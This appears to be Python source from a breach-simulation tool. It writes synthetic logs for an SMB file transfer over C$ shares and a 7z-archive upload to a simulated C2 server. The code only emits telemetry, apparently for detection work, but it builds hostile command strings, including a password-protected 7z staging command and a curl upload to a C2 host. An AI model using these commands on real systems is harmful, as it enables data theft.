"""The staged files moved between hosts over SMB, then archived and uploaded to the C2 over HTTPS."""

from __future__ import annotations

import numpy as np

from breachscope.simulate import clock
from breachscope.simulate.attack import IMAGE, PUBLIC_B, Attack, StoryInputs
from breachscope.simulate.attack_file import ArchiveUpload, SmbTransfer


def smb_transfer(w: Attack, p: SmbTransfer, _: StoryInputs) -> None:
    src, dst = w.host(p.source), w.host(p.target)
    pull = p.direction == "pull"
    t = w.at(p.at)
    tag = "attack:transfer"
    sport = w.port()
    total = sum(f.size for f in w.out.staged)
    if pull:  # the target reads the files from the source's administrative share
        orig, resp, share_host, action = dst, src, src, "SMB::FILE_READ"
        rel_dir = "ProgramData\\Microsoft\\Crypto\\RSA"
    else:  # the source writes them to the target's administrative share
        orig, resp, share_host, action = src, dst, dst, "SMB::FILE_WRITE"
        rel_dir = "Users\\Public"
    uid = w.s.conn(t, orig.ip, sport, resp.ip, 445, "tcp", "smb,gssapi", 6.8, 9_000 if pull else total + 9_000,
                   total + 6_000 if pull else 6_000, tag=tag)
    w.s.zeek("smb_mapping", t + 150_000, {"uid": uid, "id.orig_h": orig.ip, "id.orig_p": str(sport),
                                          "id.resp_h": resp.ip, "id.resp_p": "445",
                                          "path": f"\\\\\\\\{share_host.name}\\\\C$", "service": "-",
                                          "native_file_system": "-", "share_type": "DISK"}, tag)
    w.logon(t + 60_000, share_host.name, w.admin, orig.ip, "3", tag, workstation=orig.name)
    for i, f in enumerate(w.out.staged):
        ft = t + (i + 1) * 1_500_000
        w.share(ft, share_host.name, w.admin, orig.ip, "C$", f"{rel_dir}\\{f.name}", not pull, tag, f.name)
        mtime = clock.epoch_s6(np.array([ft]))[0].as_py()
        w.s.zeek("smb_files", ft + 100_000, {
            "uid": uid, "id.orig_h": orig.ip, "id.orig_p": str(sport), "id.resp_h": resp.ip, "id.resp_p": "445",
            "fuid": w.s.uid(b"F"), "action": action, "path": f"\\\\\\\\{share_host.name}\\\\C$",
            "name": f"{rel_dir}\\{f.name}".replace("\\", "\\\\"), "size": str(f.size), "times.modified": mtime,
            "times.accessed": mtime, "times.created": mtime, "times.changed": mtime}, tag, f.name)
        writer = IMAGE["explorer"] if pull else "System"
        w.file_created(ft + 200_000, dst.name, writer, f"{PUBLIC_B}\\{f.name}",
                       w.user_of("vendor") if pull else "NT AUTHORITY\\SYSTEM", tag)
    direction = (f"pulled by {w.called(dst)} from {w.called(src)}" if pull
                 else f"copied from {w.called(src)} to {w.called(dst)}")
    w.note(t, "transfer", f"{len(w.out.staged)} staged files ({total} bytes) {direction} over SMB")


def archive_upload(w: Attack, p: ArchiveUpload, _: StoryInputs) -> None:
    b, ext = w.host(p.host), w.spec.external
    c2, c2_name = ext.c2_address, ext.c2_name
    t = w.at(p.at)
    user, parent = w.user_of(p.actor), w.parent_of(p.actor)
    files = " ".join(f"{PUBLIC_B}\\{f.name}" for f in w.out.staged)
    archive = int(sum(f.size for f in w.out.staged) * 0.31) + 220
    path = f"{PUBLIC_B}\\{p.archive}"
    tag = "attack:exfiltration"
    w.proc(t, b.name, IMAGE["7z"], f"{IMAGE['7z']} a -mx9 -p{w.rng.bytes(4).hex()} {path} {files}", parent, user,
           tag)
    w.file_created(t + 4 * clock.US, b.name, IMAGE["7z"], path, user, tag)
    t2 = t + 11 * 60 * clock.US
    w.s.dns(t2 - 300_000, b.ip, c2_name, c2, tag)
    w.proc(t2 - 200_000, b.name, IMAGE["curl"], f"curl.exe -k -s -T {path} https://{c2_name}/api/v2/sync", parent,
           user, tag)
    w.netconn(t2 - 100_000, b.name, IMAGE["curl"], user, b.ip, w.port(), c2, 443, c2_name, tag)
    up = archive + 4_200
    w.tls(t2, b.ip, c2, c2_name, up, 5_800, 41.7, tag)
    w.exfiltrated("archive_upload", b, up, c2, c2_name)
    w.note(t2, "exfiltration", f"archive of the staged files ({archive} bytes) uploaded from {w.called(b)} to "
           f"{c2} ({c2_name}) over HTTPS")
